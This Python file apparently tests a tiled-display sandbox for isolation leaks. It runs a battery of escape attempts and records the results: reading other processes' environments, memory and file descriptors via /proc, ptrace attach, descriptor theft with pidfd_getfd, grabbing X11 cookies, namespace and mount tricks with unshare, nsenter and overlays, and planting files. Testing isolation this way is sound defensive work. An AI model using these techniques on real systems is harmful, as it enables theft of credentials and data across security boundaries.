"""A tile's program that is after what is not its own; also run outside of a tile, where the same tries must succeed.

``attacker.py FACTS RESULTS``: waits for the file FACTS (JSON: what it may know by ps, ss, /proc and guessing), makes
every try, and writes RESULTS: for each try what it got, or null and why not. Standard library only.
"""

from __future__ import annotations

import ctypes
import json
import os
import pathlib
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH, WALL = 16, 17, 0x40000000
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD, SYS_OPEN_TREE = 434, 438, 428
facts: dict[str, Any] = {}


def check(code: int) -> int:
    if code < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return code


def read(path: str) -> str:
    return pathlib.Path(path).read_bytes().hex()


def shell(script: str) -> str:
    """Run *script* in new user and mount namespaces, where we have every capability; return what it prints."""
    return subprocess.run(["unshare", "-Um", "--map-current-user", "--keep-caps", "sh", "-c", script],
                          capture_output=True, check=False, timeout=20).stdout.hex()  # fmt: skip


def connect(path: str, says: bytes) -> str:
    with socket.socket(socket.AF_UNIX) as trial:
        trial.settimeout(5)
        trial.connect(path)
        trial.sendall(says)
        return trial.recv(64).hex()


def display(cookie: bytes) -> str:
    """Connect to the other tile's display by *cookie*; return its answer if that is a welcome (X11, 8)."""
    name = b"MIT-MAGIC-COOKIE-1" if cookie else b""
    padded = name + b"\0" * (-len(name) % 4) + cookie + b"\0" * (-len(cookie) % 4)
    answer = bytes.fromhex(connect(facts["x"], struct.pack("=BxHHHHxx", 0x6C, 11, 0, len(name), len(cookie)) + padded))
    return answer.hex() if answer[0] == 1 else ""


def attach(pid: int) -> str:
    check(LIBC.ptrace(PTRACE_ATTACH, pid, None, None))
    os.waitpid(pid, WALL)
    LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    return "attached"


def steal_descriptors(pid: int) -> str:
    process = check(LIBC.syscall(SYS_PIDFD_OPEN, pid, 0))
    return str(check(LIBC.syscall(SYS_PIDFD_GETFD, process, 1, 0)))


def read_memory(pid: int) -> str:
    first = pathlib.Path(f"/proc/{pid}/maps").read_text().split("-")[0]
    with open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(int(first, 16))
        return memory.read(8).hex()


def swap(here: str, there: str) -> str:
    os.rename(here, there)
    os.rename(there, here)
    return "moved"


def open_files(pid: int) -> str:
    """Return what *pid* has open; how many files, and their numbers, everybody of its user may know."""
    return " ".join(os.readlink(f"/proc/{pid}/fd/{number}") for number in os.listdir(f"/proc/{pid}/fd"))


def any_root() -> str:
    """Look for the registration below the root folder of every process there is."""
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            return read(f"/proc/{pid}/root{facts['registration']}")
        except OSError:
            continue
    return ""


def any_descriptor() -> str:
    """Return what any other process has open."""
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        if int(pid) not in (os.getpid(), os.getppid()):
            try:
                if found := open_files(int(pid)):
                    return found
            except OSError:
                continue
    return ""


def tries() -> Iterator[tuple[str, Callable[[], str]]]:
    """Yield each try: its name, and what returns the loot ("" or an OSError: nothing)."""
    agent, state, cookie = facts["agent"], facts["state"], facts["cookie"]
    up, name = os.path.split(facts["folder"])
    registration, elsewhere = facts["registration"], facts["elsewhere"]
    yield "read the registration", lambda: read(registration)
    yield "read the registration by the working folder", lambda: read(f"agents/{os.path.basename(registration)}")
    yield "list the state folder", lambda: " ".join(os.listdir(state))
    yield "list the agent's folder", lambda: " ".join(n for n in os.listdir(facts["folder"]) if n != facts["own"])
    yield "connect to the agent", lambda: connect(facts["socket"], b"{}\n")
    yield "read another tile's cookie", lambda: read(cookie)
    yield "connect to another tile's framebuffer", lambda: connect(facts["rfb"], b"")
    yield "read another agent's cookie", lambda: read(elsewhere)
    yield "connect to another tile's display by its cookie", lambda: display(pathlib.Path(cookie).read_bytes()[-16:])
    for victim in ("agent", "guard", "program", "xvnc", "own xvnc"):
        pid = facts[victim]
        yield f"read the environment of the {victim}", lambda pid=pid: read(f"/proc/{pid}/environ")
        yield f"list the files of the {victim}", lambda pid=pid: open_files(pid)
        yield f"look from the root of the {victim}", lambda pid=pid: str(os.listdir(f"/proc/{pid}/root"))
        yield f"look from the folder of the {victim}", lambda pid=pid: str(os.listdir(f"/proc/{pid}/cwd"))
        yield f"read the memory of the {victim}", lambda pid=pid: read_memory(pid)
        yield f"trace the {victim}", lambda pid=pid: attach(pid)
        yield f"take a descriptor of the {victim}", lambda pid=pid: steal_descriptors(pid)
    yield "read the registration from the root of any process", any_root
    yield "list the files of any process", any_descriptor
    undo = f"umount {state}; umount -l {state}; mount --move {state} /mnt; mount -o remount,rw {state};"
    yield "take off the covers", lambda: shell(f"{undo} cat {registration}")
    yield "look under the covers by a bind mount", lambda: shell(f"mount --bind {os.path.dirname(state)} /mnt && "
        f"cat /mnt/{os.path.relpath(registration, os.path.dirname(state))}")  # fmt: skip
    yield "look under the covers by a deep bind mount", lambda: shell(f"mount --rbind {up} /mnt && umount /mnt/{name}; "
        f"umount -l /mnt/{name}; cat /mnt/{os.path.relpath(cookie, up)}")  # fmt: skip
    yield "look under the covers by an overlay", lambda: shell(
        "mount -t tmpfs none /mnt && mkdir /mnt/u /mnt/w /mnt/m && mount -t overlay -o "
        f"lowerdir={up},upperdir=/mnt/u,workdir=/mnt/w,userxattr none /mnt/m && "
        f"cat /mnt/m/{os.path.relpath(cookie, up)}")  # fmt: skip
    yield "enter the agent's namespaces", lambda: shell(f"nsenter -t {agent} -m cat {registration}")
    yield "join the agent's mounts", lambda: str(check(LIBC.setns(os.open(f"/proc/{agent}/ns/mnt", os.O_RDONLY), 0)))
    yield "write where the agent writes", lambda: str(pathlib.Path(facts["watch"]).with_name("plant").write_text("x"))
    yield "move the covers away", lambda: swap(facts["folder"], f"{up}/elsewhere")


def main() -> None:
    """Make every try and write what came of it."""
    while not os.path.exists(sys.argv[1]):
        time.sleep(0.05)
    facts.update(json.loads(pathlib.Path(sys.argv[1]).read_text()))
    results = {}
    for name, attempt in tries():
        try:
            results[name] = [attempt() or None, "nothing found"]
        except Exception as error:
            results[name] = [None, repr(error)]
    pathlib.Path(f"{sys.argv[2]}.new").write_text(json.dumps(results))
    os.replace(f"{sys.argv[2]}.new", sys.argv[2])


if __name__ == "__main__":
    main()
    if "TILEDVIZ_TILE" in os.environ:
        time.sleep(600)  # a program that ends is started again
